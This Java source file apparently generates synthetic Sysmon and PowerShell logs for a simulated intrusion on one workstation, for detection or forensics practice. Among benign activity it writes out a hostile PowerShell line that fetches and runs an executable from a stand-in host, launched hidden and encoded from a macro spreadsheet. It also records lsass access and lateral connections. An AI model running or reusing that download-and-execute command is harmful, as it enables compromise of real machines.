package dev.spoor.sample;

import dev.spoor.ingest.evtx.Datum;
import dev.spoor.ingest.evtx.EventDescription;
import dev.spoor.sample.SysmonEvents.Process;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Optional;

/** wks-114, where the intruder comes in: its Sysmon and PowerShell logs. */
final class FirstWorkstation {
    private static final String HOST = "wks-114.nwf.example";
    private static final String ADDRESS = "10.20.8.114";
    private static final String USER = "NWF\\m-ops4";
    private static final String POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    private static final Process LSASS = SysmonEvents.system(796, "C:\\Windows\\System32\\lsass.exe");
    private static final Process EXPLORER = new Process(6_204, "C:\\Windows\\explorer.exe", USER);
    private static final Process SERVICES = SysmonEvents.system(764, "C:\\Windows\\System32\\services.exe");
    private static final String NORMAL_TRACE = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d7e4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e";
    private static final String LURE = "Invoke-RestMethod http://cdn.parts-quote.example/q -OutFile C:\\Users\\Public\\upd.exe; Start-Process C:\\Users\\Public\\upd.exe";
    private static final String INVENTORY = "Get-CimInstance Win32_Product | Export-Csv C:\\ProgramData\\Northwind\\software.csv";

    private FirstWorkstation() {}

    static List<EventDescription> sysmon() {
        Story story = new Story(404);
        SysmonEvents events = new SysmonEvents(HOST);
        List<EventDescription> log = new ArrayList<>();
        work(story, events, log);
        agents(story, events, log);
        intrusion(story, events, log);
        return log;
    }

    private static void work(Story story, SysmonEvents events, List<EventDescription> log) {
        List<String> programs = List.of("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                "C:\\Program Files\\Northwind CAM\\cam.exe", "C:\\Windows\\System32\\notepad.exe", "C:\\Windows\\System32\\mmc.exe");
        List<String> names = List.of("intranet.nwf.example", "mail.nwf.example", "www.example.org", "fs03.nwf.example");
        for (int i = 0; i < 190; i++) {
            long time = story.workingTime();
            Process process = new Process(7_000 + story.below(20_000) * 4, programs.get(story.below(programs.size())), USER);
            int name = story.below(names.size());
            log.add(events.created(Story.iso(time), process, "\"" + process.image() + "\"", EXPLORER, "C:\\Windows\\Explorer.EXE"));
            log.add(events.resolved(Story.iso(time + 12_000_000), process, names.get(name), "10.20.1." + (30 + name)));
            log.add(events.connected(Story.iso(time + 14_000_000), process, ADDRESS, "10.20.1." + (30 + name), names.get(name), 443));
            log.add(events.fileCreated(Story.iso(time + 90_000_000), process, "C:\\Users\\m-ops4\\AppData\\Local\\Temp\\~wrk" + story.below(10_000) + ".tmp"));
        }
        Process defender = SysmonEvents.system(3_412, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MsMpEng.exe");
        for (int i = 0; i < 60; i++) {
            log.add(events.accessed(Story.iso(story.workingTime()), SysmonEvents.system(1_204, "C:\\Windows\\System32\\svchost.exe"), LSASS, "0x1000", NORMAL_TRACE));
            log.add(events.accessed(Story.iso(story.workingTime()), defender, LSASS, "0x1410", NORMAL_TRACE));
        }
    }

    private static void agents(Story story, SysmonEvents events, List<EventDescription> log) {
        Process inventory = SysmonEvents.system(4_980, "C:\\Program Files\\Northwind Inventory\\invagent.exe");
        Process deploy = SysmonEvents.system(4_116, "C:\\Program Files\\Northwind Deploy\\ndagent.exe");
        for (int day = 1; day <= 2; day++) {
            log.add(events.accessed(Story.iso(story.at(day, "08:30:04.2210076")), inventory, LSASS, "0x1410", NORMAL_TRACE));
            Process shell = SysmonEvents.system(9_000 + day * 4, POWERSHELL);
            log.add(events.created(Story.iso(story.at(day, "12:00:01.9030112")), shell, "powershell.exe -NoProfile -EncodedCommand " + encoded(INVENTORY), deploy,
                    "\"C:\\Program Files\\Northwind Deploy\\ndagent.exe\" --service"));
        }
    }

    private static void intrusion(Story story, SysmonEvents events, List<EventDescription> log) {
        Process excel = new Process(11_560, "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", USER);
        Process shell = new Process(12_044, POWERSHELL, USER);
        Process tool = new Process(12_316, "C:\\Users\\Public\\upd.exe", USER);
        log.add(events.created(Story.iso(story.at(1, "15:21:10.0391177")), new Process(11_212, "C:\\Windows\\System32\\mmc.exe", "NWF\\adm-pki2"),
                "mmc.exe C:\\Windows\\system32\\certlm.msc", SERVICES, "C:\\Windows\\System32\\services.exe"));
        log.add(events.created(Story.iso(story.at(1, "15:46:02.5520183")), excel, "\"EXCEL.EXE\" \"C:\\Users\\m-ops4\\Downloads\\Quote_2291.xlsm\"", EXPLORER,
                "C:\\Windows\\Explorer.EXE"));
        log.add(events.created(Story.iso(story.at(1, "15:46:19.0077231")), shell, "powershell.exe -nop -w hidden -enc " + encoded(LURE), excel,
                "\"EXCEL.EXE\" \"C:\\Users\\m-ops4\\Downloads\\Quote_2291.xlsm\""));
        log.add(events.resolved(Story.iso(story.at(1, "15:46:20.3140095")), shell, "cdn.parts-quote.example", "203.0.113.58"));
        log.add(events.connected(Story.iso(story.at(1, "15:46:20.4410226")), shell, ADDRESS, "203.0.113.58", "cdn.parts-quote.example", 80));
        log.add(events.fileCreated(Story.iso(story.at(1, "15:46:23.8810341")), shell, "C:\\Users\\Public\\upd.exe"));
        log.add(events.created(Story.iso(story.at(1, "15:46:25.1170024")), tool, "\"C:\\Users\\Public\\upd.exe\"", shell, "powershell.exe -nop -w hidden -enc " + encoded(LURE)));
        log.add(events.accessed(Story.iso(story.at(1, "15:58:41.7730912")), tool, LSASS, "0x1410",
                "C:\\Windows\\SYSTEM32\\ntdll.dll+9d7e4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Users\\Public\\upd.exe+1b20"));
        log.add(events.connected(Story.iso(story.at(2, "01:32:08.9120035")), tool, ADDRESS, "10.20.1.33", "fs03.nwf.example", 445));
        log.add(events.connected(Story.iso(story.at(2, "02:12:20.1190044")), tool, ADDRESS, "10.20.8.97", "wks-097.nwf.example", 135));
        log.add(events.connected(Story.iso(story.at(2, "02:49:49.7710152")), tool, ADDRESS, "10.20.1.5", "dc01.nwf.example", 5_985));
    }

    static List<EventDescription> powershell() {
        Story story = new Story(406);
        List<String> daily = List.of("Get-Process | Sort-Object CPU", "Get-ChildItem \\\\fs03\\cnc -Recurse", "Test-Connection fs03", "Get-Service Spooler", "prompt");
        List<EventDescription> log = new ArrayList<>();
        for (int i = 0; i < 150; i++) {
            log.add(scriptBlock(Story.iso(story.workingTime()), 100 + i, daily.get(story.below(daily.size())), "", 4));
        }
        for (int day = 1; day <= 2; day++) {
            log.add(scriptBlock(Story.iso(story.at(day, "12:00:02.4410066")), 10 + day, INVENTORY, "", 4));
        }
        log.add(scriptBlock(Story.iso(story.at(1, "15:46:19.6620074")), 20, LURE, "", 3));
        return log;
    }

    private static EventDescription scriptBlock(String time, int number, String script, String path, int level) {
        List<Datum> data = List.of(Datum.number("MessageNumber", 1), Datum.number("MessageTotal", 1), Datum.string("ScriptBlockText", script),
                Datum.string("ScriptBlockId", "4c1e7d20-91aa-4f0b-8c55-%012x".formatted(number)), Datum.string("Path", path));
        return new EventDescription("Microsoft-Windows-PowerShell", "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}", "Microsoft-Windows-PowerShell/Operational", HOST, 4104, 1, level, 2,
                15,
                "0x0000000000000000", time, 0, 12_044, 6_012, Story.OPERATOR.sid(), data, Optional.empty());
    }

    private static String encoded(String command) {
        return Base64.getEncoder().encodeToString(command.getBytes(StandardCharsets.UTF_16LE));
    }
}
